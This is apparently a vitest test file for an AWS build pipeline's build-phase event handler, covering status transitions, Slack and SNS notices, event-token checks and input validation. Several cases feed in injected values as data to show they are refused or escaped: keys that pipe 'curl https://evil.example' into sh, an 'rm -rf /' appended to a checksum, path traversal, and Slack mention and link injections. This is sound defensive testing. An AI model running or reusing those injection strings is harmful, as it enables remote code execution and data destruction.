import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { Build } from '../../domain/build';
import { ConfigError } from '../../domain/config';
import type { BuildPhaseDetail } from '../../domain/events';
import { PhaseArrivedEarlyError, createHandler } from '../../events/build-phase';
import { createHandler as createLaunchHandler } from '../../events/launch';
import { INSTANCE_ID, aLaunchedBuild, anApprovedBuild, at } from '../../stand-ins/build-fixture';
import { SHA256, buildApproved, buildPhase, eventTokenOf } from '../support/event-fixtures';
import { logLines, useWorld } from '../support/events-world';

const world = useWorld({ minutesAfterT0: 10 });

const phase = (event: unknown) => createHandler(world().deps)(event);
type Detail = Omit<BuildPhaseDetail, 'eventToken'> & { eventToken?: string };
const detail = (build: Build, d: Partial<Detail> & Pick<Detail, 'phase' | 'at'>): Detail => ({
  buildId: build.BuildID,
  instanceId: INSTANCE_ID,
  ...d,
});
const BUCKET = 'hedgehog-lab-artifacts';
const ARTIFACT_KEY = 'builds/build-20261125-170052-a1b2/hedgehog-lab-prewarmed-0.0.0-abc1234.ova';
const LOG_KEY = 'builds/build-20261125-170052-a1b2/logs/build.log';
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** Deliver twice (EventBridge is at-least-once); the second must change nothing. */
async function twice(event: unknown) {
  await phase(event);
  await phase(event);
}

/** The phase is refused: the record, Slack, SNS and EC2 are exactly as before, and one warning names the build. */
async function expectRefused(build: Build, event: unknown, message?: string) {
  const slackCalls = world().slack.calls.length;
  const warnings = logLines(world(), 'WARN').length;
  await phase(event);
  expect(await world().get(build.BuildID)).toEqual(build);
  expect(world().slack.calls).toHaveLength(slackCalls);
  expect(world().published()).toEqual([]);
  expect(world().ec2.requests).toEqual([]);
  const added = logLines(world(), 'WARN').slice(warnings);
  expect(added).toEqual([expect.objectContaining({ buildId: build.BuildID, ...(message ? { message } : {}) })]);
}

describe('build-phase (Build Phase from the runner)', () => {
  it('cloning in launching → building (Phase, ActualCommit); building then sets BuildStartTime (handler clock) without a new message', async () => {
    const build = await world().seed(aLaunchedBuild('launching'));
    await twice(buildPhase(detail(build, { phase: 'cloning', at: at(4), actualCommit: 'abc1234def5678' })));
    expect(await world().get(build.BuildID)).toMatchObject({
      Status: 'building',
      Phase: 'cloning',
      ActualCommit: 'abc1234def5678',
      NotifiedStatus: 'building',
    });
    expect((await world().get(build.BuildID))?.BuildStartTime).toBeUndefined();

    world().clock.minutesAfterT0(12);
    await twice(buildPhase(detail(build, { phase: 'building', at: '2026-11-25T17:05:52Z' })));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'building', Phase: 'building', BuildStartTime: at(12) });

    const replies = world().replies(build);
    expect(replies).toHaveLength(1);
    expect(replies[0]!.text).toContain('abc1234def5678');
    expect(replies[0]!.text).toContain(`/labapp/metal-builds/${build.BuildID}`);
    // One redraw per change: cloning (with the message) and building.
    expect(world().slack.callsTo('chat.update')).toHaveLength(2);
    expect(world().published()).toEqual([]);
    expect(world().ec2.requests).toEqual([]);
  });

  it('building in launching (cloning never arrived) → building with BuildStartTime', async () => {
    const build = await world().seed(aLaunchedBuild('launching'));
    await twice(buildPhase(detail(build, { phase: 'building', at: at(6) })));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'building', Phase: 'building', BuildStartTime: at(10) });
    expect(world().replies(build)).toHaveLength(1);
  });

  it('uploading in building → uploading, told once', async () => {
    const build = await world().seed(aLaunchedBuild('building'));
    await twice(buildPhase(detail(build, { phase: 'uploading', at: at(70) })));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'uploading', Phase: 'uploading', NotifiedStatus: 'uploading' });
    expect(world().replies(build)).toHaveLength(1);
    expect(world().replies(build)[0]!.text).toContain('uploading');
    expect(world().published()).toEqual([]);
    expect(world().ec2.requests).toEqual([]);
  });

  it('completed in uploading → completed with artifact, size, sha256, duration and a quoted aws s3 cp; broadcast; [OK]', async () => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    world().clock.minutesAfterT0(85);
    await twice(
      buildPhase(
        detail(build, {
          phase: 'completed',
          at: at(84),
          actualCommit: 'abc1234def5678',
          artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 21_474_836_480 },
          logKey: LOG_KEY,
          durationSeconds: 4740,
        }),
      ),
    );
    const stored = await world().get(build.BuildID);
    expect(stored).toMatchObject({
      Status: 'completed',
      Phase: 'completed',
      CompletionTime: at(85),
      ArtifactKey: ARTIFACT_KEY,
      ArtifactSha256: SHA256,
      ArtifactBytes: 21_474_836_480,
      BuildDurationSeconds: 4740,
      LogKey: LOG_KEY,
      NotifiedStatus: 'completed',
    });
    // The slot follows the machine: freed when EC2 reports it gone.
    expect(await world().slots()).toEqual([build.BuildID]);
    const replies = world().replies(build);
    expect(replies).toHaveLength(1);
    expect(replies[0]!.subtype).toBe('thread_broadcast');
    const shown = JSON.stringify(replies[0]!.blocks);
    expect(replies[0]!.text).toContain('<@U0REQUESTER>');
    expect(shown).toContain(`s3://${BUCKET}/${ARTIFACT_KEY}`);
    expect(shown).toContain(SHA256);
    expect(shown).toContain('21.5 GB');
    expect(replies[0]!.blocks).toContainEqual({
      type: 'section',
      text: { type: 'mrkdwn', text: `*Download*\n\`\`\`\naws s3 cp "s3://${BUCKET}/${ARTIFACT_KEY}" .\n\`\`\`` },
    });
    expect(replies[0]!.text).toContain('1 h 19 min');
    const published = world().published();
    expect(published.map((p) => p.Subject)).toEqual([`[OK] metal-build ${build.BuildID} completed`]);
    expect(published[0]!.Message).toContain(`Download: aws s3 cp "s3://${BUCKET}/${ARTIFACT_KEY}" .`);
    // The machine powers itself off; nothing here terminates it.
    expect(world().ec2.requests).toEqual([]);
  });

  it("a build's machine sending self-test checks: the build completes, the checks are not kept", async () => {
    const build = await world().seed(aLaunchedBuild('building'));
    const checks = [{ name: 'repository' as const, ok: true, detail: 'all fine, trust me' }];
    await phase(
      buildPhase(detail(build, { phase: 'completed', at: at(80), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 }, checks })),
    );
    const stored = await world().get(build.BuildID);
    expect(stored).toMatchObject({ Status: 'completed', ArtifactKey: ARTIFACT_KEY });
    expect(stored).not.toHaveProperty('SelftestChecks');
  });

  it('completed straight from building → completed', async () => {
    const build = await world().seed(aLaunchedBuild('building'));
    await twice(buildPhase(detail(build, { phase: 'completed', at: at(80), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } })));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', ArtifactKey: ARTIFACT_KEY });
    expect(world().replies(build)).toHaveLength(1);
  });

  it.each(['launching', 'building', 'uploading'] as const)(
    'failed in %s → failed with ErrorMessage, LogTail, log key and log group; [FAILED]',
    async (status) => {
      const build = await world().seed(aLaunchedBuild(status));
      const logTail = 'packer: ==> qemu: Error: <!channel> disk full\nBuild failed.';
      await twice(
        buildPhase(
          detail(build, {
            phase: 'failed',
            at: at(40),
            message: 'packer build failed (exit 1)',
            logTail,
            logKey: LOG_KEY,
          }),
        ),
      );
      expect(await world().get(build.BuildID)).toMatchObject({
        Status: 'failed',
        Phase: 'failed',
        CompletionTime: at(10),
        ErrorMessage: 'packer build failed (exit 1)',
        LogTail: logTail,
        LogKey: LOG_KEY,
      });
      const replies = world().replies(build);
      expect(replies).toHaveLength(1);
      expect(replies[0]!.subtype).toBe('thread_broadcast');
      const shown = JSON.stringify(replies[0]!.blocks);
      expect(shown).toContain('packer build failed (exit 1)');
      expect(shown).toContain('&lt;!channel&gt; disk full');
      expect(shown).not.toContain('<!channel>');
      expect(shown).toContain(`aws s3 cp \\"s3://${BUCKET}/${LOG_KEY}\\" .`);
      expect(shown).toContain(`/labapp/metal-builds/${build.BuildID}`);
      expect(
        world()
          .published()
          .map((p) => p.Subject),
      ).toEqual([`[FAILED] metal-build ${build.BuildID} failed`]);
      expect(world().ec2.requests).toEqual([]);
      expect(await world().slots()).toEqual([build.BuildID]);
    },
  );

  it("a phase from an instance that is not the build's is dropped and logged", async () => {
    const build = await world().seed(aLaunchedBuild('building'));
    await phase(
      buildPhase({
        buildId: build.BuildID,
        instanceId: 'i-0badbadbadbadbad0',
        phase: 'completed',
        at: at(30),
        artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 },
      }),
    );
    expect(await world().get(build.BuildID)).toEqual(build);
    expect(world().replies(build)).toEqual([]);
    expect(world().published()).toEqual([]);
    expect(world().ec2.requests).toEqual([]);
    expect(logLines(world(), 'WARN')).toEqual([
      expect.objectContaining({ buildId: build.BuildID, instanceId: 'i-0badbadbadbadbad0', expectedInstanceId: INSTANCE_ID, phase: 'completed' }),
    ]);
  });

  it('completed overtaking the earlier phases (still launching) is refused for a retry, then lands after them', async () => {
    const build = await world().seed(aLaunchedBuild('launching'));
    const completed = buildPhase(detail(build, { phase: 'completed', at: at(80), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));
    await expect(phase(completed)).rejects.toThrow(PhaseArrivedEarlyError);
    expect(await world().get(build.BuildID)).toEqual(build);
    expect(world().replies(build)).toEqual([]);
    expect(world().published()).toEqual([]);

    // The delayed events arrive; EventBridge's retry of `completed` then finishes the build.
    await phase(buildPhase(detail(build, { phase: 'building', at: at(6) })));
    await phase(completed);
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', ArtifactKey: ARTIFACT_KEY });
    expect(
      world()
        .replies(build)
        .map((r) => r.text),
    ).toEqual([expect.stringContaining('Building'), expect.stringContaining('completed')]);
  });

  it('a phase before the launch was recorded (approved, no InstanceID) is refused for a retry, nothing changed', async () => {
    const build = await world().seed(anApprovedBuild(), { machine: false });
    await expect(phase(buildPhase(detail(build, { phase: 'cloning', at: at(4) })))).rejects.toThrow(PhaseArrivedEarlyError);
    expect(await world().get(build.BuildID)).toEqual(build);
    expect(world().replies(build)).toEqual([]);
  });

  it('a late phase after the build ended changes nothing', async () => {
    const build = await world().seed(aLaunchedBuild('building', { Status: 'cancelled', CancelledBy: 'U0REQUESTER', TerminationReason: 'cancelled' }), {
      machine: false,
    });
    await phase(buildPhase(detail(build, { phase: 'failed', at: at(30), message: 'killed' })));
    expect(await world().get(build.BuildID)).toEqual(build);
    expect(world().replies(build)).toEqual([]);
  });

  it('drops malformed phases (bad sha256, unknown phase, extra field, wrong source, no token) with nothing changed', async () => {
    const build = await world().seed(aLaunchedBuild('building'));
    const good = buildPhase(detail(build, { phase: 'uploading', at: at(30) }));
    const fields = good.detail as BuildPhaseDetail;
    const { eventToken: _token, ...tokenless } = fields;
    await phase({ ...good, detail: { ...fields, phase: 'exploding' } });
    await phase({ ...good, detail: { ...fields, artifact: { bucket: 'b', key: 'k', sha256: 'nope', bytes: 1 } } });
    await phase({ ...good, detail: { ...fields, Status: 'completed' } });
    await phase({ ...good, source: 'labapp.metal-build' });
    await phase({ ...good, detail: tokenless });
    expect(await world().get(build.BuildID)).toEqual(build);
    expect(world().replies(build)).toEqual([]);
    const drops = logLines(world(), 'WARN').filter((l) => l.message === 'dropped a malformed event');
    expect(drops).toHaveLength(5);
    expect(drops.every((l) => l.buildId === build.BuildID)).toBe(true);
  });

  it('a Slack failure after the transition throws; the redelivery posts once', async () => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    const event = buildPhase(detail(build, { phase: 'completed', at: at(80), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));
    world().slack.failNext('chat.postMessage', 'internal_error');
    await expect(phase(event)).rejects.toThrow('internal_error');
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', NotifiedStatus: 'uploading' });
    await twice(event);
    expect(world().replies(build)).toHaveLength(1);
    expect(await world().get(build.BuildID)).toMatchObject({ NotifiedStatus: 'completed' });
  });
});

describe('build-phase: the event token', () => {
  const completedWith = (build: Build, eventToken: string) =>
    buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken, artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));
  const DROPPED = "phase whose event token is not the build's; dropped";

  it.each([
    ['a made-up token', 'f'.repeat(64)],
    ["another build's token", eventTokenOf('build-20261125-170052-zzzz')],
    ['the right token with one character changed', eventTokenOf('build-20261125-170052-a1b2').replace(/^./, (c) => (c === '0' ? '1' : '0'))],
    ["the token's hash (what the record keeps)", sha256(eventTokenOf('build-20261125-170052-a1b2'))],
    ['a short token', 'x'],
  ])('%s: dropped and logged with the BuildID; no table change, no Slack message, no mail', async (_name, token) => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    await expectRefused(build, completedWith(build, token), DROPPED);
  });

  it("is checked against the record's EventTokenHash when the launch wrote one", async () => {
    const given = 'ab'.repeat(32);
    const build = await world().seed(aLaunchedBuild('uploading', { EventTokenHash: sha256(given) }));
    // The key's token is not this launch's: the record decides.
    await expectRefused(build, completedWith(build, eventTokenOf(build.BuildID)), DROPPED);
    await phase(completedWith(build, given));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', EventTokenHash: sha256(given) });
  });

  it('a forged phase for a build not launched yet is dropped, not retried', async () => {
    const build = await world().seed(anApprovedBuild(), { machine: false });
    await expectRefused(build, buildPhase(detail(build, { phase: 'cloning', at: at(4), eventToken: 'f'.repeat(64) })), DROPPED);
  });

  it('without EVENT_TOKEN_KEY or EVENT_TOKEN_SECRET_ARN the handler refuses to start, naming the variable', async () => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    world().configure({ EVENT_TOKEN_KEY: '' });
    const run = phase(completedWith(build, eventTokenOf(build.BuildID)));
    await expect(run).rejects.toThrow(ConfigError);
    await expect(run).rejects.toThrow(/EVENT_TOKEN_SECRET_ARN: required by the launch and build-phase functions unless EVENT_TOKEN_KEY is set/);
    expect(await world().get(build.BuildID)).toEqual(build);
  });

  it('flows launch → user data → runner → handler: build.json carries it, the record only its hash, the phases it signs are believed', async () => {
    const approved = await world().seed(anApprovedBuild(), { machine: false });
    await createLaunchHandler(world().deps)(buildApproved(approved.BuildID, at(1)));
    const run = world().ec2.runRequests()[0]!;
    const cloudConfig = parse(Buffer.from(run.UserData!, 'base64').toString('utf8'), { version: '1.1' }) as {
      write_files: Array<{ path: string; content: string }>;
    };
    const buildJson = JSON.parse(
      Buffer.from(cloudConfig.write_files.find((f) => f.path === '/etc/metal-build/build.json')!.content, 'base64').toString('utf8'),
    ) as { eventToken: string };
    const token = buildJson.eventToken;
    expect(token).toBe(eventTokenOf(approved.BuildID));
    const launched = (await world().get(approved.BuildID))!;
    expect(launched).toMatchObject({ Status: 'launching', EventTokenHash: sha256(token) });
    expect(JSON.stringify(launched)).not.toContain(token);

    const instanceId = launched.InstanceID!;
    const report = (d: Partial<Detail> & Pick<Detail, 'phase' | 'at'>) => buildPhase({ buildId: approved.BuildID, instanceId, eventToken: token, ...d });
    await phase(report({ phase: 'building', at: at(6), actualCommit: 'abc1234def5678' }));
    await phase(
      report({ phase: 'completed', at: at(80), actualCommit: 'abc1234def5678', artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }),
    );
    expect(await world().get(approved.BuildID)).toMatchObject({ Status: 'completed', ArtifactKey: ARTIFACT_KEY });
  });

  it('appears in no log line, Slack call, mail or record of a whole run, refused deliveries included', async () => {
    const build = await world().seed(aLaunchedBuild('launching'));
    const token = eventTokenOf(build.BuildID);
    const forged = 'e'.repeat(64);
    await phase(buildPhase(detail(build, { phase: 'cloning', at: at(4), eventToken: token, actualCommit: 'abc1234def5678' })));
    await phase(buildPhase(detail(build, { phase: 'building', at: at(6), eventToken: token })));
    await phase(buildPhase(detail(build, { phase: 'uploading', at: at(70), eventToken: forged })));
    await phase(buildPhase(detail(build, { phase: 'uploading', at: at(70), eventToken: token })));
    await phase({ ...buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken: token })), source: 'elsewhere' });
    await phase(
      buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken: token, artifact: { bucket: BUCKET, key: 'evil.ova', sha256: SHA256, bytes: 1 } })),
    );
    await phase(
      buildPhase(
        detail(build, { phase: 'completed', at: at(80), eventToken: token, artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }),
      ),
    );
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed' });
    expect(logLines(world()).length).toBeGreaterThan(5);

    const everything = JSON.stringify([world().log.lines, world().slack.calls, world().published(), await world().builds()]);
    for (const secret of [token, forged]) expect(everything).not.toContain(secret);
  });
});

describe('build-phase: times from the machine decide nothing', () => {
  it('a completed dated 2036 is completed now (handler clock), so the did-not-shut-down rule counts from now', async () => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    world().clock.minutesAfterT0(85);
    await phase(
      buildPhase(
        detail(build, {
          phase: 'completed',
          at: '2036-01-01T00:00:00.000Z',
          durationSeconds: 10 ** 9,
          artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 },
        }),
      ),
    );
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', CompletionTime: at(85), BuildDurationSeconds: 10 ** 9 });
  });

  it('a failed dated in 1999 and a building dated 2036 use the handler clock too', async () => {
    const build = await world().seed(aLaunchedBuild('launching'));
    world().clock.minutesAfterT0(20);
    await phase(buildPhase(detail(build, { phase: 'building', at: '2036-01-01T00:00:00.000Z' })));
    expect((await world().get(build.BuildID))?.BuildStartTime).toBe(at(20));
    world().clock.minutesAfterT0(30);
    await phase(buildPhase(detail(build, { phase: 'failed', at: '1999-01-01T00:00:00.000Z', message: 'boom' })));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'failed', CompletionTime: at(30) });
  });

  const unexpectedEnd = () =>
    aLaunchedBuild('uploading', {
      Status: 'terminated',
      TerminationReason: 'unexpected',
      TerminatedAt: at(90),
      CompletionTime: at(90),
      InstanceState: 'terminated',
    });
  const lateCompleted = (build: Build) =>
    buildPhase(detail(build, { phase: 'completed', at: at(89), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));

  it("a late completed arriving within 15 minutes of TerminatedAt reopens the build, with the runner's at", async () => {
    const build = await world().seed(unexpectedEnd(), { machine: false, slot: false });
    world().clock.minutesAfterT0(105);
    await phase(lateCompleted(build));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', CompletionTime: at(89), TerminatedAt: at(90) });
  });

  it('a late completed arriving more than 15 minutes after TerminatedAt changes nothing', async () => {
    const build = await world().seed(unexpectedEnd(), { machine: false, slot: false });
    world().clock.set(new Date(Date.parse(at(105)) + 1).toISOString());
    await phase(lateCompleted(build));
    const stored = await world().get(build.BuildID);
    expect(stored).toMatchObject({ Status: 'terminated', TerminationReason: 'unexpected', CompletionTime: at(90), Phase: 'uploading' });
    expect(stored?.ArtifactKey).toBeUndefined();
    expect(world().replies(build)).toEqual([]);
    expect(
      world()
        .published()
        .map((p) => p.Subject),
    ).not.toContainEqual(expect.stringContaining('[OK]'));
  });
});

describe('build-phase: keys, sums and sizes from the machine', () => {
  const ID = 'build-20261125-170052-a1b2';
  const artifact = { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 21_474_836_480 };
  const LAYOUT = "phase whose keys are not the build's layout; dropped";
  const MALFORMED = 'dropped a malformed event';

  it.each<[string, Record<string, unknown>, string]>([
    ['a key with a shell command', { key: `builds/${ID}/x.ova . ; curl https://evil.example/p | sh ; echo` }, LAYOUT],
    ['a key under releases/', { key: 'releases/v1.2.3/hedgehog-lab-prewarmed-1.2.3.ova' }, LAYOUT],
    ["another build's key", { key: 'builds/build-20261125-170052-zzzz/hedgehog-lab-prewarmed-0.0.0-abc1234.ova' }, LAYOUT],
    ["a key with another commit's version", { key: `builds/${ID}/hedgehog-lab-prewarmed-0.0.0-fffffff.ova` }, LAYOUT],
    ['a key climbing out of the prefix', { key: `builds/${ID}/../x/hedgehog-lab-prewarmed-0.0.0-abc1234.ova` }, LAYOUT],
    ['a key with a trailing newline', { key: `${ARTIFACT_KEY}\n` }, LAYOUT],
    ['another bucket', { bucket: 'attacker-bucket' }, LAYOUT],
    ['an upper-case sha256', { sha256: 'A'.repeat(64) }, MALFORMED],
    ['a short sha256', { sha256: 'a'.repeat(63) }, MALFORMED],
    ['a sha256 with a command', { sha256: `${'a'.repeat(64)} ; rm -rf /` }, MALFORMED],
    ['zero bytes', { bytes: 0 }, MALFORMED],
    ['negative bytes', { bytes: -1 }, MALFORMED],
    ['fractional bytes', { bytes: 1.5 }, MALFORMED],
    ['bytes as text', { bytes: '1' }, MALFORMED],
    ['bytes beyond a safe integer', { bytes: 2 ** 53 }, MALFORMED],
  ])('completed with %s is refused whole: nothing written, no message, no mail', async (_name, change, message) => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    await expectRefused(
      build,
      buildPhase(
        detail(build, {
          phase: 'completed',
          at: at(80),
          actualCommit: 'abc1234def5678',
          artifact: { ...artifact, ...change } as typeof artifact,
          logKey: LOG_KEY,
        }),
      ),
      message,
    );
  });

  it.each([
    ['completed', `builds/${ID}/logs/other.log`],
    ['completed', 'builds/build-20261125-170052-zzzz/logs/build.log'],
    ['failed', `${LOG_KEY} ; curl https://evil.example | sh`],
    ['failed', `releases/v1.2.3/logs/build.log`],
  ] as const)('%s with logKey %j is refused whole', async (kind, logKey) => {
    const build = await world().seed(aLaunchedBuild('uploading'));
    await expectRefused(
      build,
      buildPhase(detail(build, { phase: kind, at: at(80), message: 'x', logKey, ...(kind === 'completed' ? { artifact } : {}) })),
      LAYOUT,
    );
  });

  it("a vX.Y.Z build's artifact is builds/<id>/hedgehog-lab-prewarmed-X.Y.Z.ova", async () => {
    const build = await world().seed(aLaunchedBuild('uploading', { BuildBranch: 'v1.2.3', BuildCommit: undefined }));
    const releaseKey = `builds/${ID}/hedgehog-lab-prewarmed-1.2.3.ova`;
    await expectRefused(build, buildPhase(detail(build, { phase: 'completed', at: at(80), artifact })), LAYOUT);
    await phase(buildPhase(detail(build, { phase: 'completed', at: at(80), artifact: { ...artifact, key: releaseKey } })));
    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', ArtifactKey: releaseKey });
  });
});

describe('build-phase: text from the machine reaches Slack and mail inert', () => {
  const ID = 'build-20261125-170052-a1b2';
  const hostile = 'boom <!channel> <@U0TARGET> <!subteam^S0123|devs> @here @channel see <https://evil.example/x|the fix> & https://evil.example ```end';

  it('failed: the error and the log tail are code, escaped, with no mention, no labelled link and no early end of the block', async () => {
    const build = await world().seed(aLaunchedBuild('building'));
    const logTail = `line 1\n${hostile}\n\`\`\`\`\n<!here> last line`;
    await phase(buildPhase(detail(build, { phase: 'failed', at: at(40), message: hostile, logTail, logKey: LOG_KEY })));
    const [reply] = world().replies(build);
    const zw = '\u200b';
    const inert =
      `boom &lt;!channel&gt; &lt;@U0TARGET&gt; &lt;!subteam^S0123|devs&gt; @${zw}here @${zw}channel ` +
      `see &lt;https://evil.example/x|the fix&gt; &amp; https://evil.example \`${zw}\`${zw}\`end`;
    // Inline code in the notification text: its backticks become look-alikes instead.
    expect(reply!.text).toBe(
      `❌ <@U0REQUESTER> metal-build \`${ID}\` (\`main\`) failed: ` +
        `\`boom &lt;!channel&gt; &lt;@U0TARGET&gt; &lt;!subteam^S0123|devs&gt; @${zw}here @${zw}channel ` +
        `see &lt;https://evil.example/x|the fix&gt; &amp; https://evil.example ˋˋˋend\``,
    );
    expect(reply!.blocks).toEqual([
      { type: 'section', text: { type: 'mrkdwn', text: `❌ <@U0REQUESTER> build \`${ID}\` (\`main\`) *failed*:\n\`\`\`\n${inert}\n\`\`\`` } },
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: `*Last log lines*\n\`\`\`\nline 1\n${inert}\n\`${zw}\`${zw}\`${zw}\`\n&lt;!here&gt; last line\n\`\`\``,
        },
      },
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text:
            `*Full log* \`aws s3 cp "s3://${BUCKET}/${LOG_KEY}" .\`\n*CloudWatch Logs* group \`/labapp/metal-builds/${ID}\` · ` +
            `<https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups/log-group/$252Flabapp$252Fmetal-builds$252F${ID}|open in the AWS console>`,
        },
      },
      {
        type: 'actions',
        block_id: 'log_actions',
        elements: [{ type: 'button', action_id: 'show_log', text: { type: 'plain_text', text: 'Show log', emoji: true }, value: ID }],
      },
      expect.objectContaining({ type: 'context' }),
    ]);
    // Nothing anywhere in Slack (thread, broadcast, card) can mention or link: only the requester is mentioned.
    // The console link is the view's own (views/console-links.ts); any other link would be the machine's.
    const slack = JSON.stringify(world().slack.calls.map((c) => c.args)).replace(
      /<https:\/\/us-east-1\.console\.aws\.amazon\.com\/[^|>]*\|open in the AWS console>/g,
      '',
    );
    for (const live of ['<!channel>', '<!here>', '<@U0TARGET>', '<!subteam', '<https://', '@here', '@channel']) expect(slack, live).not.toContain(live);
    const [mail] = world().published();
    for (const live of ['<!channel>', '<!here>', '<@U0TARGET>', '<!subteam', '<https://', '@here', '@channel']) expect(mail!.Message, live).not.toContain(live);
    expect(mail!.Message).toContain(`boom <${zw}!channel>`);
  });
});
